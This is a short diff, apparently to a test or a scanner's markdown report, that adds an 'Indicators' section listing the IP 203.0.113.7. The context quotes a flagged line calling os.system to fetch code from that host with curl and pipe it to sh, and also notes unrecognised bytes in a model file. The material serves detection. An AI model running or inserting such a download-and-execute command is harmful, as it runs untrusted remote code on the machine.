@@ -72,6 +72,10 @@ def test_markdown(small):
 os.system('curl -s http://203.0.113.7/x | sh')
 ```
 
+### Indicators
+
+- 203.0.113.7
+
 ### Not read
 
 - `models/c.bin!part @16`: 300 bytes not recognised (begins 93 af)
